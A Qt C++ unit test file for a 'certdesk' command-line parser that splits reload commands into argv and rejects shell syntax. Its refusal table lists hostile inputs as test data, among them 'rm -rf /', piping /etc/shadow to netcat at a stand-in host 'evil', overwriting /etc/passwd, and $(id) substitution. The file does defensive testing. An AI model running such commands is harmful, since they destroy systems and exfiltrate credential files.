// SPDX-License-Identifier: GPL-3.0-or-later
// Splitting reload and validate commands into argv, and refusing what only a shell would act on.

#include "connectors/target/sdk/commandline.h"

#include <QTest>

using namespace certdesk;
using namespace certdesk::target;

class TestCommandLine : public QObject
{
    Q_OBJECT

private Q_SLOTS:
    void accepts_data();
    void accepts();
    void refuses_data();
    void refuses();
    void reportsUnclosedQuotes();
    void joinRoundTrips();
};

void TestCommandLine::accepts_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QStringList>("argv");
    QTest::newRow("empty") << QString() << QStringList();
    QTest::newRow("blank") << QStringLiteral("  \t ") << QStringList();
    QTest::newRow("one word") << QStringLiteral("true") << QStringList{QStringLiteral("true")};
    QTest::newRow("words and spaces")
        << QStringLiteral("  systemctl   reload\tnginx ")
        << QStringList{QStringLiteral("systemctl"), QStringLiteral("reload"), QStringLiteral("nginx")};
    QTest::newRow("double quotes") << QStringLiteral(R"(nginx -t -c "/etc/my nginx/nginx.conf")")
                                   << QStringList{QStringLiteral("nginx"), QStringLiteral("-t"),
                                                  QStringLiteral("-c"),
                                                  QStringLiteral("/etc/my nginx/nginx.conf")};
    QTest::newRow("single quotes keep backslashes")
        << QStringLiteral(R"(echo 'a\b "c"')")
        << QStringList{QStringLiteral("echo"), QStringLiteral(R"(a\b "c")")};
    QTest::newRow("escapes in double quotes")
        << QStringLiteral(R"(echo "say \"hi\" \\ \n")")
        << QStringList{QStringLiteral("echo"), QStringLiteral(R"(say "hi" \ \n)")};
    QTest::newRow("backslash outside quotes")
        << QStringLiteral(R"(ls /srv/my\ folder)")
        << QStringList{QStringLiteral("ls"), QStringLiteral("/srv/my folder")};
    QTest::newRow("adjacent quoted parts")
        << QStringLiteral(R"(a"b c"'d')") << QStringList{QStringLiteral("ab cd")};
    QTest::newRow("empty argument") << QStringLiteral(R"(cmd "" x)")
                                    << QStringList{QStringLiteral("cmd"), QString(), QStringLiteral("x")};
    // Inside quotes these are plain characters for the program: a URL, a regular expression.
    QTest::newRow("quoted ampersand")
        << QStringLiteral(R"(curl "http://h/?a=1&b=2")")
        << QStringList{QStringLiteral("curl"), QStringLiteral("http://h/?a=1&b=2")};
    QTest::newRow("quoted pipe and semicolon")
        << QStringLiteral("grep 'a|b;c'") << QStringList{QStringLiteral("grep"), QStringLiteral("a|b;c")};
    QTest::newRow("dollar without substitution")
        << QStringLiteral("echo $HOME price$5")
        << QStringList{QStringLiteral("echo"), QStringLiteral("$HOME"), QStringLiteral("price$5")};
}

void TestCommandLine::accepts()
{
    QFETCH(QString, text);
    QFETCH(QStringList, argv);
    const Result<QStringList> parsed = parseCommandLine(text);
    QVERIFY2(parsed.ok(), qPrintable(parsed.error().fullText()));
    QCOMPARE(*parsed, argv);
}

void TestCommandLine::refuses_data()
{
    QTest::addColumn<QString>("text");
    QTest::addColumn<QString>("named");
    QTest::newRow("semicolon") << QStringLiteral("nginx -t; rm -rf /") << QStringLiteral("\";\"");
    QTest::newRow("semicolon inside a word") << QStringLiteral("nginx -t;reboot") << QStringLiteral("\";\"");
    QTest::newRow("and-and") << QStringLiteral("nginx -t && systemctl reload nginx")
                             << QStringLiteral("\"&\"");
    QTest::newRow("background") << QStringLiteral("sleep 1 &") << QStringLiteral("\"&\"");
    QTest::newRow("or-or") << QStringLiteral("nginx -t || true") << QStringLiteral("\"|\"");
    QTest::newRow("pipe") << QStringLiteral("cat /etc/shadow | nc evil 1") << QStringLiteral("\"|\"");
    QTest::newRow("redirect out") << QStringLiteral("echo x >/etc/passwd") << QStringLiteral("\">\"");
    QTest::newRow("redirect in") << QStringLiteral("sh </tmp/x") << QStringLiteral("\"<\"");
    QTest::newRow("backticks") << QStringLiteral("echo `id`") << QStringLiteral("backtick");
    QTest::newRow("quoted backticks") << QStringLiteral("echo \"`id`\"") << QStringLiteral("backtick");
    QTest::newRow("command substitution") << QStringLiteral("echo $(id)") << QStringLiteral("\"$(\"");
    QTest::newRow("quoted command substitution")
        << QStringLiteral("echo \"$(id)\"") << QStringLiteral("\"$(\"");
    QTest::newRow("single-quoted substitution") << QStringLiteral("echo '$(id)'") << QStringLiteral("\"$(\"");
    QTest::newRow("variable substitution") << QStringLiteral("echo ${IFS}") << QStringLiteral("\"${\"");
    QTest::newRow("escaped substitution") << QStringLiteral(R"(echo \$(id))") << QStringLiteral("\"$(\"");
    QTest::newRow("newline") << QStringLiteral("nginx -t\nreboot") << QStringLiteral("line break");
    QTest::newRow("quoted newline") << QStringLiteral("echo 'a\nb'") << QStringLiteral("line break");
    QTest::newRow("nul") << (QStringLiteral("nginx") + QChar(0) + QStringLiteral("x"))
                         << QStringLiteral("NUL");
}

void TestCommandLine::refuses()
{
    QFETCH(QString, text);
    QFETCH(QString, named);
    const Result<QStringList> parsed = parseCommandLine(text);
    QVERIFY2(!parsed.ok(), qPrintable(parsed.ok() ? parsed->join(u'|') : QString()));
    QCOMPARE(parsed.error().code, ErrorCode::InvalidInput);
    QVERIFY2(parsed.error().message.contains(named), qPrintable(parsed.error().message));
    QVERIFY2(parsed.error().message.contains(QLatin1String("without a shell")),
             qPrintable(parsed.error().message));
    QVERIFY2(parsed.error().message.contains(QLatin1String("script")), qPrintable(parsed.error().message));
}

void TestCommandLine::reportsUnclosedQuotes()
{
    QCOMPARE(parseCommandLine(QStringLiteral("echo 'abc")).error().code, ErrorCode::InvalidInput);
    QVERIFY(parseCommandLine(QStringLiteral("echo \"abc"))
                .error()
                .message.contains(QLatin1String("double quote")));
    QVERIFY(
        parseCommandLine(QStringLiteral("echo abc\\")).error().message.contains(QLatin1String("backslash")));
}

void TestCommandLine::joinRoundTrips()
{
    const QStringList argv{QStringLiteral("nginx"), QStringLiteral("-c"),
                           QStringLiteral("/etc/my nginx/n.conf"), QStringLiteral("it's"), QString()};
    const QString joined = joinCommandLine(argv);
    QCOMPARE(joined, QStringLiteral(R"(nginx -c '/etc/my nginx/n.conf' 'it'\''s' '')"));
    const Result<QStringList> parsed = parseCommandLine(joined);
    QVERIFY(parsed.ok());
    QCOMPARE(*parsed, argv);
}

QTEST_GUILESS_MAIN(TestCommandLine)
#include "tst_commandline.moc"
